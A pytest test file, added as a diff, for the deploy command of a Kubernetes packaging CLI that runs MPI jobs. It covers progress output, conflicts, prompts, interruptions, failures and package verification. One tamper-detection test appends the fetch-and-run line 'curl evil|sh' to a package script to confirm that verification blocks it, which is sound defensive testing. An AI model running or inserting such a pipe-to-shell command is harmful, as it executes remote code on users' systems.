@@ -1,0 +1,541 @@
+"""What deploy says of what it meets, and of how it ends."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+import signal
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from packager.base.process import Finished
+from packager.cli.host import Host
+from tests import kubectls
+from tests.fake_cluster import item
+from tests.life import ENDED_WITH_3, JOB, POD, at_a_terminal, launcher
+
+if TYPE_CHECKING:
+    from collections.abc import Sequence
+
+    from tests.conftest import Mlpack
+    from tests.life import Life
+
+
+DEPLOY = ("deploy", "hello-mpi", "-n", "team")
+MPIJOB = f"mpijob/{JOB}"
+NOTE = (
+    "note: results are lost when the pods are deleted: OUTPUT_DIR is on emptyDir; "
+    "to keep them: mlpack configure hello-mpi --storage host-path (or nfs, pvc)"
+)
+SCRIPT = "hello-mpi/quickstart/scripts/hello.sh"
+
+
+def applied(life: Life) -> list[str]:
+    return [call for call in life.calls if call.startswith("apply") and "--dry-run" not in call]
+
+
+def test_it_is_followed_to_a_good_end(mlpack: Mlpack, life: Life) -> None:
+    life.moments = [lambda: None, life.start, life.end]
+    done = mlpack(*DEPLOY)
+    assert (done.code, done.stdout) == (0, "")
+    lines = [re.sub(r"^\d\d:\d\d  ", "", line) for line in done.stderr.splitlines()]
+    assert lines == [
+        NOTE,
+        f"{MPIJOB} is deployed in the namespace team",
+        "pending: no pods yet",
+        "running: pods: 3 running",
+        f"{MPIJOB} has succeeded",
+        "  its log:     mlpack logs hello-mpi -n team",
+        "  delete it:   mlpack delete hello-mpi -n team",
+    ]
+
+
+def test_results_that_stay_are_pointed_at(mlpack: Mlpack, life: Life) -> None:
+    spec = next(obj for obj in life.overlays["multi-node"] if obj["kind"] == "MPIJob")["spec"]
+    volumes = spec["mpiReplicaSpecs"]["Worker"]["template"]["spec"]["volumes"]
+    output = next(volume for volume in volumes if volume["name"] == "output")
+    output["persistentVolumeClaim"] = {"claimName": "results"}
+    del output["emptyDir"]
+    life.moments = [life.end]
+    done = mlpack(*DEPLOY)
+    assert done.code == 0
+    assert "  its results: mlpack results hello-mpi DIR -n team\n" in done.stderr
+
+
+def test_without_waiting_it_says_how_to_look(mlpack: Mlpack, life: Life) -> None:
+    done = mlpack(*DEPLOY, "--no-wait", "--overlay", "single-node")
+    assert done.code == 0
+    assert done.stderr == (
+        f"{NOTE}\n"
+        f"pod/{POD} is deployed in the namespace team\n"
+        "show its state: mlpack status hello-mpi -n team --overlay single-node\n"
+    )
+    assert len(applied(life)) == 1
+
+
+def test_verbose_shows_each_command(mlpack: Mlpack, life: Life) -> None:
+    done = mlpack(*DEPLOY, "--no-wait", "-v")
+    assert f" mpijob.kubeflow.org/{JOB} --show-managed-fields " in done.stderr
+    assert [line for line in done.stderr.splitlines() if line.startswith("+ kubectl kustomize ")] != []
+    assert len(applied(life)) == 1
+
+
+def test_a_job_that_is_there_as_the_package_says_is_gone_on_with(mlpack: Mlpack, life: Life) -> None:
+    assert mlpack(*DEPLOY, "--no-wait").code == 0
+    again = mlpack(*DEPLOY, "--no-wait")
+    assert again.code == 0
+    assert again.stderr.startswith(f"{MPIJOB} already exists and is up to date\n")
+    assert not any(call.startswith("delete") for call in life.calls)
+
+
+def test_replace_deletes_even_what_is_the_same(mlpack: Mlpack, life: Life) -> None:
+    assert mlpack(*DEPLOY, "--no-wait").code == 0
+    again = mlpack(*DEPLOY, "--no-wait", "--replace")
+    assert again.code == 0
+    assert again.stderr.startswith(f"waiting until the earlier {MPIJOB} is deleted\n")
+    path = f"/apis/kubeflow.org/v2beta1/namespaces/team/mpijobs/{JOB}"
+    assert [call.split()[1] for call in life.calls if call.startswith("delete")] == [f"--raw={path}"]
+
+
+def test_a_finished_job_names_its_author_and_does_not_run_again(mlpack: Mlpack, life: Life) -> None:
+    mlpack.host = Host(life, "ann@desk")
+    assert mlpack(*DEPLOY, "--no-wait").code == 0
+    life.end()
+    again = mlpack(*DEPLOY)
+    assert again.code == 9
+    assert again.stderr == (
+        f"error: {MPIJOB}, deployed by ann@desk, has already run, and a finished job does not run again; "
+        "nothing was done\nhint: --replace deletes it and deploys it again\n"
+    )
+
+
+def edit(life: Life, count: int) -> None:
+    """Change so many values of what the overlay applies."""
+    env = next(obj for obj in life.overlays["multi-node"] if obj["metadata"]["name"].startswith("hello-mpi-env"))
+    env["data"] |= {f"KEY_{number:02}": "new" for number in range(count)}
+
+
+def test_a_different_job_is_shown_and_left_alone(mlpack: Mlpack, life: Life) -> None:
+    life.deploy()
+    edit(life, 1)
+    done = mlpack(*DEPLOY)
+    assert done.code == 9
+    assert done.stderr == (
+        f"  configmap/hello-mpi-env-multi-node  data.KEY_00: nothing -> new\n"
+        f"error: {MPIJOB} already exists with a different spec, and its pods cannot be changed in place; "
+        "nothing was done\nhint: --replace deletes it and deploys it again\n"
+    )
+    assert applied(life) == []
+
+
+def test_an_object_that_is_new_is_shown_as_such(mlpack: Mlpack, life: Life) -> None:
+    life.deploy()
+    life.objects = [obj for obj in life.objects if not obj["metadata"]["name"].startswith("hello-mpi-env")]
+    done = mlpack(*DEPLOY)
+    assert done.code == 9
+    assert done.stderr.startswith("  configmap/hello-mpi-env-multi-node  is new\n")
+
+
+@pytest.mark.parametrize(("count", "more"), [(21, "  and 1 more difference"), (23, "  and 3 more differences")])
+def test_of_many_differences_twenty_are_shown(mlpack: Mlpack, life: Life, count: int, more: str) -> None:
+    life.deploy()
+    edit(life, count)
+    done = mlpack(*DEPLOY)
+    shown = done.stderr.splitlines()
+    assert shown[19].startswith("  configmap/hello-mpi-env-multi-node  data.KEY_19: ")
+    assert shown[20] == more
+
+
+def test_on_a_terminal_it_asks_and_takes_no_for_an_answer(
+    mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    life.deploy()
+    life.end()
+    at_a_terminal(monkeypatch, typed="\n")
+    done = mlpack(*DEPLOY)
+    assert done.code == 1
+    assert done.stderr.startswith(f"{MPIJOB} has already run, and a finished job does not run again.\n")
+    assert "Delete it and deploy it again? [y/N]:" in done.stderr
+    assert done.stderr.endswith("error: nothing was done\n")
+    assert not any(call.startswith("delete") for call in life.calls)
+
+
+@pytest.mark.parametrize(("typed", "code", "count"), [("n\n", 1, 0), ("\n", 1, 0), ("y\n", 0, 1)])
+def test_a_first_run_whose_results_are_lost_is_asked_about(
+    mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch, typed: str, code: int, count: int
+) -> None:
+    at_a_terminal(monkeypatch, typed=typed)
+    done = mlpack(*DEPLOY, "--no-wait")
+    assert (done.code, len(applied(life))) == (code, count)
+    assert done.stderr.startswith(f"{NOTE}\nDeploy it anyway? [y/N]")
+    assert code == 0 or done.stderr.endswith("error: nothing was deployed\n")
+
+
+def test_yes_answers_the_question_about_results(mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch) -> None:
+    at_a_terminal(monkeypatch)
+    done = mlpack(*DEPLOY, "--no-wait", "-y")
+    assert (done.code, len(applied(life))) == (0, 1)
+    assert "Deploy it anyway?" not in done.stderr
+
+
+def test_what_was_applied_before_a_refusal_is_named(mlpack: Mlpack, life: Life) -> None:
+    def refuse_the_last(argv: Sequence[str]) -> Finished | None:
+        if "apply" not in argv or "--dry-run=server" in argv:
+            return None
+        file = Path(next(word for word in argv if word.startswith("--filename=")).partition("=")[2])
+        first = json.loads(file.read_text(encoding="utf-8"))
+        file.write_text(json.dumps({**first, "items": first["items"][:2]}), encoding="utf-8")
+        life.carry_out(argv)
+        return Finished(1, "", 'Error from server (Forbidden): mpijobs "x" is forbidden: not any more')
+
+    life.first = refuse_the_last
+    done = mlpack(*DEPLOY)
+    assert done.code == 7
+    assert done.stderr == (
+        f'{NOTE}\nerror: the cluster rejects it: mpijobs "x" is forbidden: not any more; applied before that: '
+        "configmap/hello-mpi-env-multi-node, configmap/hello-mpi-runtime-multi-node\n"
+        "hint: ask the cluster administrator\n"
+    )
+
+
+@pytest.mark.parametrize(
+    ("answer", "why"),
+    [
+        (
+            Finished(1, "", "Unable to connect to the server: unexpected EOF"),
+            "the cluster does not answer: Unable to connect to the server: unexpected EOF",
+        ),
+        (Finished(0, '{"kind": "Li', ""), "the cluster's response was cut off"),
+    ],
+)
+def test_an_apply_whose_answer_is_lost_is_called_neither_applied_nor_not(
+    answer: Finished, why: str, mlpack: Mlpack, life: Life
+) -> None:
+    def lose_the_answer(argv: Sequence[str]) -> Finished:
+        done = life.carry_out(argv)
+        is_apply = "apply" in argv and "--dry-run=server" not in argv
+        return answer if is_apply else done
+
+    life.first = lose_the_answer
+    done = mlpack(*DEPLOY)
+    message = f"error: {why}; it is not known whether it was applied\nhint: deploy again to complete it\n"
+    assert (done.code, done.stderr) == (7, f"{NOTE}\n{message}")
+
+
+def test_a_job_that_is_going_is_waited_for(mlpack: Mlpack, life: Life) -> None:
+    life.deploy()["metadata"]["deletionTimestamp"] = "2026-11-21T00:01:00Z"
+    done = mlpack(*DEPLOY, "--no-wait")
+    assert done.code == 0
+    assert done.stderr.startswith(f"waiting until the earlier {MPIJOB} is deleted\n")
+
+
+def test_a_job_that_does_not_go_in_time_is_8(mlpack: Mlpack, life: Life) -> None:
+    life.deploy()["metadata"] |= {"deletionTimestamp": "2026-11-21T00:01:00Z", "finalizers": ["foregroundDeletion"]}
+    life.wait = lambda _seconds: life.wait_out(100)
+    done = mlpack(*DEPLOY, "--no-wait")
+    assert done.code == 8
+    assert done.stderr.endswith(f"error: {MPIJOB}: not deleted after 300 s\nhint: run it again to continue waiting\n")
+
+
+BACK = (
+    "  follow it:  mlpack deploy hello-mpi -n team\n"
+    "  look at it: mlpack status hello-mpi -n team\n"
+    "  delete it:  mlpack delete hello-mpi -n team\n"
+    "mlpack: stopped by SIGINT\n"
+)
+
+
+def test_ctrl_c_while_it_waits_leaves_it_running(mlpack: Mlpack, life: Life) -> None:
+    life.moments = [lambda: signal.raise_signal(signal.SIGINT)]
+    done = mlpack(*DEPLOY)
+    assert done.code == 130
+    assert done.stderr.endswith(f"\n\ndetached; {MPIJOB} continues in the cluster\n{BACK}")
+
+
+def test_ctrl_c_while_it_applies_says_that_some_may_be_missing(mlpack: Mlpack, life: Life) -> None:
+    life.first = lambda argv: signal.raise_signal(signal.SIGINT) if "apply" in argv else None
+    done = mlpack(*DEPLOY)
+    assert done.code == 130
+    assert done.stderr == (
+        f"{NOTE}\n\nstopped before {MPIJOB} was known to be fully applied; deploy again to complete it\n{BACK}"
+    )
+
+
+def test_a_failure_shows_its_reason_its_last_lines_and_where_the_rest_is(mlpack: Mlpack, life: Life) -> None:
+    def fail() -> None:
+        life.objects.append(launcher(state=ENDED_WITH_3, phase="Failed"))
+        life.end("Failed", reason="BackoffLimitExceeded")
+
+    life.moments = [fail]
+    done = mlpack(*DEPLOY)
+    assert done.code == 7
+    assert done.stderr.endswith(
+        f"pod/{JOB}-launcher-0: container launcher ended with exit code 3\n"
+        "  | epoch 1\n"
+        "  | no such file: train.csv\n"
+        f"error: {MPIJOB} has failed: the launcher has failed\n"
+        "hint: the whole log: mlpack logs hello-mpi -n team\n"
+    )
+
+
+def test_what_only_a_person_can_mend_is_left_as_it_is(mlpack: Mlpack, life: Life) -> None:
+    refused = {
+        "involvedObject": {"uid": f"MPIJob-{JOB}"},
+        "metadata": {"name": "e"},
+        "type": "Warning",
+        "reason": "ValidationError",
+        "message": "Found validation errors: spec.slotsPerWorker: must be positive",
+    }
+    life.objects.append({"kind": "Event", **refused})
+    done = mlpack(*DEPLOY)
+    assert done.code == 7
+    assert done.stderr.endswith(
+        f"{MPIJOB}: mpi-operator rejects the job: spec.slotsPerWorker: must be positive\n"
+        "  hint: correct the job in the overlay, then deploy it with --replace\n"
+        f"error: {MPIJOB} cannot run: ValidationError; it was left as it is\n"
+        "hint: correct it and deploy again (--replace), or delete it: mlpack delete hello-mpi -n team\n"
+    )
+
+
+def test_what_may_pass_is_waited_for_no_longer_than_patience(mlpack: Mlpack, life: Life) -> None:
+    full = {"type": "PodScheduled", "status": "False", "message": "0/1 nodes are available: 1 Insufficient cpu."}
+
+    def wait_for_room() -> None:
+        life.start()
+        waiting = launcher(phase="Pending", conditions=[full], containerStatuses=[])
+        life.objects = [obj for obj in life.objects if obj["kind"] != "Pod"] + [waiting]
+
+    life.moments = [wait_for_room]
+    done = mlpack(*DEPLOY, "--patience", "0s")
+    assert done.code == 7
+    assert "stuck: no node can run it: 0/1 nodes are available: 1 Insufficient cpu\n" in done.stderr
+    assert f"error: {MPIJOB} cannot run: Unschedulable; it was left as it is\n" in done.stderr
+
+
+def test_an_end_that_the_operator_does_not_see_is_waited_for_no_longer_than_patience(
+    mlpack: Mlpack, life: Life
+) -> None:
+    def end() -> None:
+        life.start()
+        made = {"ownerReferences": [{"kind": "MPIJob", "name": JOB, "uid": f"MPIJob-{JOB}"}]}
+        complete = {"conditions": [{"type": "Complete", "status": "True"}]}
+        life.objects.append(item("Job", f"{JOB}-launcher", metadata=made, status=complete))
+
+    life.moments = [end]
+    done = mlpack(*DEPLOY, "--patience", "0s")
+    assert done.code == 0
+    assert (
+        f"{MPIJOB} has succeeded\n"
+        f"{MPIJOB}: the launcher has ended (Complete), but mpi-operator has not updated the job yet\n"
+        "  hint: is mpi-operator running? kubectl get pods --all-namespaces | grep mpi-operator\n"
+    ) in done.stderr
+
+
+def test_a_job_that_somebody_deletes_ends_the_wait(mlpack: Mlpack, life: Life) -> None:
+    life.moments = [life.start, life.remove_all]
+    done = mlpack(*DEPLOY)
+    assert done.code == 7
+    assert done.stderr.endswith(f"error: {MPIJOB}: it was deleted\nhint: mlpack status hello-mpi -n team\n")
+
+
+def test_a_timeout_is_8_and_says_how_to_come_back(mlpack: Mlpack, life: Life) -> None:
+    life.moments = [life.start]
+    done = mlpack(*DEPLOY, "--timeout", "0s")
+    assert done.code == 8
+    assert done.stderr.endswith(
+        f"error: {MPIJOB} is still running after 0 s: pods: 3 running\n"
+        "hint: it continues in the cluster; follow it with `mlpack status hello-mpi -n team`\n"
+    )
+
+
+def test_a_timeout_while_the_cluster_is_away(mlpack: Mlpack, life: Life) -> None:
+    life.moments = [life.start, life.go_silent]
+    done = mlpack(*DEPLOY, "--timeout", "60s")
+    assert done.code == 8
+    assert done.stderr.endswith(
+        f"error: {MPIJOB} was running when last seen, 60 s ago\n"
+        "hint: it continues in the cluster; follow it with `mlpack status hello-mpi -n team`\n"
+    )
+
+
+STARTING = 'Error from server (InternalError): an error on the server ("[-]poststarthook/rbac failed") has prevented it'
+
+
+@pytest.mark.parametrize(("verb", "asked"), [("deploy", "apply"), ("status", "get mpijobs"), ("delete", "delete")])
+def test_what_an_api_server_forbids_while_it_starts_is_not_believed(
+    mlpack: Mlpack, life: Life, verb: str, asked: str
+) -> None:
+    if verb != "deploy":
+        life.deploy()
+    forbidden = 'mpijobs.kubeflow.org is forbidden: User "me" cannot do it to resource "mpijobs"'
+    life.refused[asked] = f"Error from server (Forbidden): {forbidden}"
+    life.unready = STARTING
+    done = mlpack(verb, *DEPLOY[1:])
+    assert done.code == 7
+    assert done.stderr.endswith(
+        "error: the cluster does not answer: it is not ready yet\nhint: kubectl get --raw '/readyz?verbose'\n"
+    )
+    life.unready = ""
+    assert forbidden in mlpack(verb, *DEPLOY[1:]).stderr
+
+
+def test_what_the_server_refuses_is_7_and_nothing_is_made(mlpack: Mlpack, life: Life) -> None:
+    life.refused["apply"] = 'Error from server (NotFound): namespaces "team" not found'
+    done = mlpack(*DEPLOY)
+    assert (done.code, done.stderr) == (
+        7,
+        f"{NOTE}\nerror: namespace team not found\nhint: kubectl create namespace team\n",
+    )
+    assert life.objects == []
+
+
+CHANGED = "the content differs from what the package was sealed with"
+UNTRUSTED = (
+    "error: hello-mpi did not pass verification; nothing was applied\n"
+    "hint: mlpack verify hello-mpi shows the details; --no-verify applies it anyway\n"
+)
+
+
+def append(path: str, text: str) -> None:
+    with Path(path).open("a", encoding="utf-8") as file:
+        file.write(text)
+
+
+@pytest.mark.parametrize("options", [(), ("--no-wait",), ("--dry-run", "server"), ("--replace", "-y")])
+def test_a_package_that_was_tampered_with_is_not_applied(mlpack: Mlpack, life: Life, options: tuple[str, ...]) -> None:
+    append(SCRIPT, "curl evil|sh\n")
+    Path("hello-mpi/README.md").unlink()
+    done = mlpack(*DEPLOY, *options)
+    assert (done.code, done.stdout) == (5, "")
+    number = Path("hello-mpi/manifest.json").read_text().splitlines().index('    "README.md": {') + 1
+    assert done.stderr == (
+        f"hello-mpi/manifest.json:{number}:5: README.md is listed here but missing\n{SCRIPT}: {CHANGED}\n{UNTRUSTED}"
+    )
+    assert life.calls == []
+
+
+def test_no_verify_applies_it_all_the_same(mlpack: Mlpack, life: Life) -> None:
+    append(SCRIPT, "echo more\n")
+    assert mlpack(*DEPLOY, "--no-wait", "--no-verify").code == 0
+    assert len(applied(life)) == 1
+
+
+def test_what_no_build_makes_is_applied_when_it_is_allowed(mlpack: Mlpack, life: Life) -> None:
+    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "b"}}
+    life.overlays["multi-node"].append(role)
+    done = mlpack(*DEPLOY)
+    assert done.code == 5
+    assert done.stderr.endswith(f"(--allow ClusterRoleBinding.rbac.authorization.k8s.io permits it)\n{UNTRUSTED}")
+    assert life.calls == []
+    assert mlpack(*DEPLOY, "--dry-run=server", "--allow", "ClusterRoleBinding").code == 0
+    assert mlpack(*DEPLOY, "--allow", "-x").stderr.startswith("error: --allow -x: expected a kind such as Service")
+
+
+def test_an_edit_that_lowers_the_level_is_not_applied(mlpack: Mlpack, hello_mpi: Path, tmp_path: Path) -> None:
+    shutil.copytree(hello_mpi, tmp_path / "hello-mpi")
+    patch = "hello-mpi/quickstart/k8s/mlops/multi-node/mlops-job-patch.yaml"
+    text = Path(patch).read_text()
+    number = text.splitlines().index("            runAsUser: 1000") + 1
+    Path(patch).write_text(text.replace("runAsUser: 1000", "runAsNonRoot: false\n            runAsUser: 1000", 1))
+    kubectl = str(kubectls.kubectl())
+    done = mlpack("deploy", "hello-mpi", "--kubectl", kubectl)
+    field = "spec.mpiReplicaSpecs.Launcher.template.spec.securityContext.runAsNonRoot"
+    assert done.code == 5
+    assert done.stderr.startswith(
+        f"{patch}:{number}:27: MPIJob {JOB}: {field}: expected true, "
+        "which the package did not ask for when it was sealed (--pod-security baseline accepts it)\n"
+    )
+    assert done.stderr.endswith(UNTRUSTED)
+    accepted = mlpack("deploy", "hello-mpi", "--kubectl", kubectl, "--pod-security", "baseline")
+    assert accepted.code == 7
+    assert "error: no cluster is configured" in accepted.stderr, "not even one of whoever runs this test"
+
+
+def test_what_people_are_meant_to_edit_is_applied(mlpack: Mlpack, life: Life) -> None:
+    configured = mlpack("configure", "hello-mpi", "-y", "--root", "/nfs", "--uid", "7", "--with", "host-path")
+    assert configured.code == 0, configured.stderr
+    append("hello-mpi/quickstart/k8s/mlops/multi-node/mlops.env", "LR=1\n")
+    assert mlpack(*DEPLOY, "--no-wait").code == 0
+    assert len(applied(life)) == 1
+
+
+def test_doctor_lists_what_deploy_would_refuse(mlpack: Mlpack, life: Life) -> None:
+    assert life
+    append(SCRIPT, "echo more\n")
+    Path(SCRIPT).chmod(0o644)
+    done = mlpack("doctor", "hello-mpi", "-n", "team")
+    assert done.code == 1
+    assert done.stdout.splitlines()[:2] == [
+        f"fails   package      {SCRIPT}: expected the mode 0755, found 0644; fix: chmod 0755 {SCRIPT}",
+        f"fails   package      {SCRIPT}: {CHANGED}",
+    ]
+
+
+@pytest.mark.parametrize("verb", ["status", "delete", "logs", "history"])
+def test_what_looks_at_a_package_takes_it_as_it_is(mlpack: Mlpack, life: Life, verb: str) -> None:
+    life.deploy()
+    life.logs = {f"{JOB}-launcher-0": "epoch 1\n"}
+    life.start()
+    append(SCRIPT, "echo more\n")
+    done = mlpack(verb, "hello-mpi", "-n", "team")
+    assert CHANGED not in done.stderr
+    assert done.code == 0, done.stderr
+
+
+PROGRESS = "".join(f"step {step}:  50%\rstep {step}: 100%\r\n" for step in range(302))
+
+
+def test_a_progress_bar_is_followed_line_by_line(mlpack: Mlpack, life: Life) -> None:
+    """tqdm and Keras begin the same line again and again: what is one line of the log is one line on stdout."""
+
+    def write() -> None:
+        lines = PROGRESS.split("\n")[:-1]
+        life.logs[f"{JOB}-launcher-0"] = "".join(
+            f"2026-11-21T00:00:{i // 6:02}Z {line}\n" for i, line in enumerate(lines)
+        )
+
+    life.moments = [lambda: None, life.start, write, life.end]
+    done = mlpack(*DEPLOY, "--follow")
+    assert (done.code, done.stdout) == (0, PROGRESS)
+
+
+def test_a_followed_log_that_cannot_be_read_does_not_hide_how_the_job_ended(mlpack: Mlpack, life: Life) -> None:
+    life.refused["logs"] = 'Error from server (Forbidden): pods "x" is forbidden'
+    life.moments = [lambda: None, life.start, lambda: None, life.end]
+    done = mlpack(*DEPLOY, "--follow")
+    assert (done.code, done.stdout) == (0, "")
+    why = f'the log of pod/{JOB}-launcher-0 cannot be read: pods "x" is forbidden'
+    assert [line for line in done.stderr.splitlines() if "cannot be read" in line] == [
+        f"{why}; it continues when the log can be read",
+        f"the end of the log is missing: {why}",
+    ]
+
+
+def test_what_a_failed_container_wrote_last_is_shown_as_a_terminal_would_be_left_with(
+    mlpack: Mlpack, life: Life
+) -> None:
+    def fail() -> None:
+        message = "10%\r20%\r\nloss\x1b[31m nan\n"
+        state = {"terminated": {"exitCode": 3, "reason": "Error", "message": message}}
+        life.objects += [launcher(state=state, phase="Failed")]
+        life.end("Failed", message="the launcher has failed")
+
+    life.moments = [fail]
+    done = mlpack(*DEPLOY)
+    assert done.code == 7
+    assert "  | 20%\n  | loss\\x1b[31m nan\n" in done.stderr
+
+
+def test_deploy_where_no_operator_is_installed(mlpack: Mlpack, life: Life) -> None:
+    del life.served["kubeflow.org/v2beta1"]
+    unserved = 'error: resource mapping not found for name: "x" from "f": no matches for kind "MPIJob" in version '
+    life.refused["apply"] = f'{unserved}"kubeflow.org/v2beta1"'
+    done = mlpack("deploy", "hello-mpi", "-n", "team", "--context", "c")
+    message = "error: the cluster does not serve MPIJob (kubeflow.org/v2beta1): its operator is not installed\n"
+    assert (done.code, done.stderr[done.stderr.index("error") :]) == (
+        7,
+        f"{message}hint: mlpack operator install mpi --context c\n",
+    )
